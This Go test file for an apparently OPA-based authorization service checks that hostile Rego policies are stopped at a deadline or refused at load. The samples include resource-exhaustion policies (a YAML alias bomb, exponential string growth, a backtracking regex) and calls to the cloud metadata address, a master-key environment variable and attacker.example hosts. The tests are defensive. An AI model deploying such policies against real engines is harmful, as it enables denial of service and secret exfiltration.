package bundles

import (
	"context"
	"go/parser"
	"go/token"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/deputyauth/deputy/policies"
)

// What a hostile author can write, and what Deputy does about it: it is refused
// at load, or it is stopped at its deadline and the question is refused. Each
// row is named in docs/traps.md.

// trip is a rule that does nothing until a client wears the label.
func trip(lines ...string) string {
	return "deny contains \"x\" if {\n\tinput.client.labels.trip\n\t" + strings.Join(lines, "\n\t") + "\n}"
}

// endless policies run for ever, or for all memory there is, unless stopped.
func endless() map[string]string {
	replaced := `replace(replace(replace(replace(replace(s, "a", s), "a", s), "a", s), "a", s), "a", s)`
	double := []string{"a0 := numbers.range(1, 1000)"}
	for i := range 40 {
		last := "a" + strconv.Itoa(i)
		double = append(double, "a"+strconv.Itoa(i+1)+" := array.concat("+last+", "+last+")")
	}
	nested := "x"
	for range 40 {
		nested = "_twice(" + nested + ")"
	}
	return map[string]string{
		"nested loops":                   trip("xs := numbers.range(1, 3000)", "count([1 | some i in xs; some j in xs; some k in xs; i * j * k < 0]) > 0"),
		"cross product":                  trip("s := {x | some x in numbers.range(1, 3000)}", "p := {[a, b, c] | some a in s; some b in s; some c in s}", "count(p) == 0"),
		"numbers.range":                  trip("count(numbers.range(1, 300000000)) == 0"),
		"numbers.range_step":             trip("count(numbers.range_step(1, 300000000, 1)) == 0"),
		"net.cidr_expand of a /8":        trip(`count(net.cidr_expand("10.0.0.0/8")) == 0`),
		"exponential replace":            trip(`s := concat("", ["a" | some _ in numbers.range(1, 1000)])`, "count("+replaced+") == 0"),
		"exponential strings.replace_n":  trip(`s := concat("", ["a" | some _ in numbers.range(1, 1000)])`, `m := {"a": s}`, "t := strings.replace_n(m, strings.replace_n(m, strings.replace_n(m, s)))", "count(t) == 0"),
		"doubling array.concat":          trip(append(double, "count(a40) == 0")...),
		"doubling functions":             "_twice(x) := [x, x]\n\n" + trip("x := 1", "count("+nested+") == 0"),
		"growing object.union":           trip("o := {x: x | some x in numbers.range(1, 20000)}", "count([1 | some i in numbers.range(1, 100000); object.union(o, {i: i}) == {}]) > 0"),
		"graph.reachable of a big graph": trip("g := {x: [y | some y in numbers.range(1, 2000)] | some x in numbers.range(1, 2000)}", "count(graph.reachable(g, {1})) == 0"),
		"regex in a loop":                trip(`count([1 | some i in numbers.range(1, 10000000); regex.match("(a+)+$", sprintf("%d", [i]))]) > 0`),
	}
}

func TestHostilePolicyIsStopped(t *testing.T) {
	const deadline = 100 * time.Millisecond
	for name, body := range endless() {
		t.Run(name, func(t *testing.T) {
			e, err := New(Options{House: rules(body), Deadline: deadline})
			require.NoError(t, err)
			begin := time.Now()
			d, err := e.Decide(context.Background(), ask(t, map[string]string{"trip": "yes"}, "read"))
			require.Error(t, err)
			require.False(t, d.Allow)
			require.Equal(t, []string{policies.CodePolicyError}, answer(d).Codes)
			require.GreaterOrEqual(t, time.Since(begin), deadline, "it ended by itself: the row shows nothing")
			require.Less(t, time.Since(begin), 5*time.Second)
			require.True(t, decide(t, e, ask(t, nil, "read")).Allow, "who does not trip it is served")
		})
	}
}

// What looks dangerous and is not: widths are limited, patterns never backtrack,
// aliases and numbers have bounds of their own. Each answers long before its time.
func TestHostilePolicyThatIsHarmless(t *testing.T) {
	for name, body := range map[string]string{
		"sprintf of great width":     trip(`count(sprintf("%0500000000d", [1])) < 100`),
		"sprintf of great precision": trip(`count(sprintf("%.500000000f", [1])) < 100`),
		"brace globs":                trip(`not glob.match("{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}", [], "x")`),
		"regex that would backtrack": trip(`not regex.match("(a+)+$", concat("", ["aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "!"]))`),
		"a number of many digits":    trip(`json.unmarshal("1e400000000") > 1`),
		"a size of many digits":      trip(`units.parse_bytes("1e400000000") > 1`),
		"aliases of aliases in YAML": trip(`yaml.unmarshal("` + aliases() + `")`),
	} {
		t.Run(name, func(t *testing.T) {
			e := newEngine(t, rules(body))
			begin := time.Now()
			d, _ := e.Decide(context.Background(), ask(t, map[string]string{"trip": "yes"}, "read"))
			require.Less(t, time.Since(begin), DefaultDeadline/2)
			require.False(t, d.Allow, "the rule fired, or erred: either refuses")
		})
	}
}

// aliases is a document of nine lines that stands for 10^9 values.
func aliases() string {
	doc := `a: &a [1,1,1,1,1,1,1,1,1,1]\n`
	for c := 'b'; c <= 'i'; c++ {
		last := "*" + string(c-1)
		doc += string(c) + ": &" + string(c) + " [" + strings.Repeat(last+",", 9) + last + `]\n`
	}
	return doc
}

// Functions that reach out, roll dice, look at the clock or cannot be stopped do
// not exist, whichever way they are written.
func TestHostilePolicyIsRefusedAtLoad(t *testing.T) {
	e := newEngine(t, silent())
	for name, c := range map[string]struct{ body, says string }{
		"http.send":                    {trip(`http.send({"method": "get", "url": "http://169.254.169.254/"}).status_code == 200`), "undefined function http.send"},
		"opa.runtime":                  {trip(`opa.runtime().env.DEPUTY_MASTER_KEY`), "undefined function opa.runtime"},
		"net.lookup_ip_addr":           {trip(`net.lookup_ip_addr("secret.attacker.example")`), "undefined function net.lookup_ip_addr"},
		"json.match_schema, remote":    {trip(`json.match_schema({}, {"$ref": "http://attacker.example/s.json"})`), "undefined function json.match_schema"},
		"json.verify_schema":           {trip(`json.verify_schema({"$ref": "http://attacker.example/s.json"})`), "undefined function json.verify_schema"},
		"graph.reachable_paths":        {trip(`graph.reachable_paths({"a": ["b"], "b": ["a"]}, ["a"])`), "undefined function graph.reachable_paths"},
		"walk":                         {trip("walk(input, [_, value])", "value == 1"), "undefined function walk"},
		"rand.intn":                    {trip(`rand.intn("x", 2) == 1`), "undefined function rand.intn"},
		"uuid.rfc4122":                 {trip(`uuid.rfc4122("x") == "y"`), "undefined function uuid.rfc4122"},
		"time.now_ns":                  {trip(`time.now_ns() > 1`), "undefined function time.now_ns"},
		"io.jwt.encode_sign":           {trip(`io.jwt.encode_sign({}, {}, {}) == "x"`), "undefined function io.jwt.encode_sign"},
		"io.jwt.decode_verify":         {trip(`io.jwt.decode_verify("x", {})`), "undefined function io.jwt.decode_verify"},
		"crypto.hmac.sha256":           {trip(`crypto.hmac.sha256("x", "y") == "z"`), "undefined function crypto.hmac.sha256"},
		"trace":                        {trip(`trace("x")`), "undefined function trace"},
		"rego.parse_module":            {trip(`rego.parse_module("x.rego", "package x")`), "undefined function rego.parse_module"},
		"bits.lsh":                     {trip(`bits.lsh(1, 100000000000) > 1`), "undefined function bits.lsh"},
		"put in by with":               {trip(`count([1]) == 1 with count as http.send`), "var http is unsafe"},
		"put in by with, as a value":   {trip(`count([1]) == 1 with opa.runtime as {}`), "with keyword target must reference"},
		"a number too long to read":    {trip(`{1e400000000} == set()`), "number too big"},
		"a module of another language": {"import rego.v0\n\n" + trip("true"), "rego"},
	} {
		t.Run(name, func(t *testing.T) {
			old := e.Status().House
			require.ErrorContains(t, e.Load(rules(c.body)), c.says)
			require.Equal(t, old, e.Status().House)
		})
	}
}

// A print is erased where policy serves: it writes nothing, and what it would
// have looked at is not evaluated.
func TestPrintSaysNothingWhileServing(t *testing.T) {
	e := newEngine(t, rules(trip(`print("secret", numbers.range(1, 300000000))`, "false")))
	require.True(t, decide(t, e, ask(t, map[string]string{"trip": "yes"}, "read")).Allow)
}

// The mistakes of an author that are lost in silence where everything shares
// one compiler. Each is refused at load, or refuses while serving.
func TestMistakesOfAnAuthorNeverGrant(t *testing.T) {
	atLoad := map[string]struct {
		house fstest.MapFS
		says  string
	}{
		"adds to a set of the floor":    {with("floor.rego", "package floor\n\ngranted contains \"root\"\n"), "package must be house or below it"},
		"redefines a rule of the floor": {with("floor.rego", "package floor.issue\n\ndecision := {\"allow\": true}\n"), "package must be house or below it"},
		"base data in the floor":        {with("data.json", `{"floor": {"granted": ["root"]}}`), `"floor"`},
		"misspelt fact":                 {rules(`deny contains "x" if input.agnet.status == "suspended"`), "input.agnet"},
		"deny is a string":              {rules(`deny := "everything"`), "deny must be a set"},
		"deny is a truth":               {rules(`deny if input.client.labels.trip`), "deny must be a set"},
		"max_ttl is a string":           {rules(`max_ttl := "5m"`), "max_ttl must be a number"},
		"max_ttl is negative":           {rules(`max_ttl := -5`), "max_ttl has a value that cannot be used"},
		"max_ttl has two values":        {rules("max_ttl := 5\n\nmax_ttl := 6"), "conflict"},
		"asks the final answer":         {rules(`deny contains "x" if not data.compose.issue.decision.allow`), "only to input and data.house"},
		"head that names the floor":     {rules(`floor.granted contains "root"`), "floor has no effect"},
	}
	for name, c := range atLoad {
		t.Run(name, func(t *testing.T) { require.ErrorContains(t, Check(c.house), c.says) })
	}
	for name, body := range map[string]string{
		"builtin that errs":                      `deny contains "x" if to_number(input.client.id) > 3` + "\n\n_unused := input.client.labels.trip",
		"max_ttl has two values, for some":       "max_ttl := 5 if input.client.labels.trip\n\nmax_ttl := 6 if input.client.labels.trip",
		"max_ttl is negative, for some":          `max_ttl := -5 if input.client.labels.trip`,
		"max_ttl that only shows itself as text": `max_ttl := json.unmarshal("\"5m\"") if input.client.labels.trip`,
	} {
		t.Run(name, func(t *testing.T) {
			e, err := New(Options{House: rules(body)})
			if err != nil { // the rehearsal found it
				require.ErrorContains(t, err, "issue.rego:3")
				return
			}
			d, _ := e.Decide(context.Background(), ask(t, map[string]string{"trip": "yes"}, "read"))
			require.False(t, d.Allow)
			require.Equal(t, []string{policies.CodePolicyError}, answer(d).Codes)
		})
	}
}

// Facts replaced by `with` are replaced for that expression and nowhere else.
func TestFactsReplacedByWithStayReplacedNowhereElse(t *testing.T) {
	house := rules(`remove contains "write" if "nothing" in input.granted with input.client.scopes as {"rsv_1": {"root": ["rol_1"]}} with input.granted as ["nothing"]`)
	plain := answer(decide(t, newEngine(t, silent()), ask(t, nil, "read")))
	require.Equal(t, plain, answer(decide(t, newEngine(t, house), ask(t, nil, "read"))))
}

// Only the parts of OPA that parse, compile and evaluate are used: what serves,
// downloads, loads files by itself or runs as a plugin has had advisories of its
// own, and is not even linked in by this package's own imports.
func TestNoPartOfOPAThatServes(t *testing.T) {
	allowed := []string{"ast", "rego", "storage", "storage/inmem", "types", "tester", "cover", "format", "topdown", "topdown/print", "metrics"}
	files, err := filepath.Glob("*.go")
	require.NoError(t, err)
	seen := 0
	for _, name := range files {
		f, err := parser.ParseFile(token.NewFileSet(), name, nil, parser.ImportsOnly)
		require.NoError(t, err)
		for _, i := range f.Imports {
			path, err := strconv.Unquote(i.Path.Value)
			require.NoError(t, err)
			if part, ours := strings.CutPrefix(path, "github.com/open-policy-agent/opa/"); ours {
				seen++
				require.Contains(t, allowed, strings.TrimPrefix(part, "v1/"), name)
			}
		}
	}
	require.Greater(t, seen, 5)
}
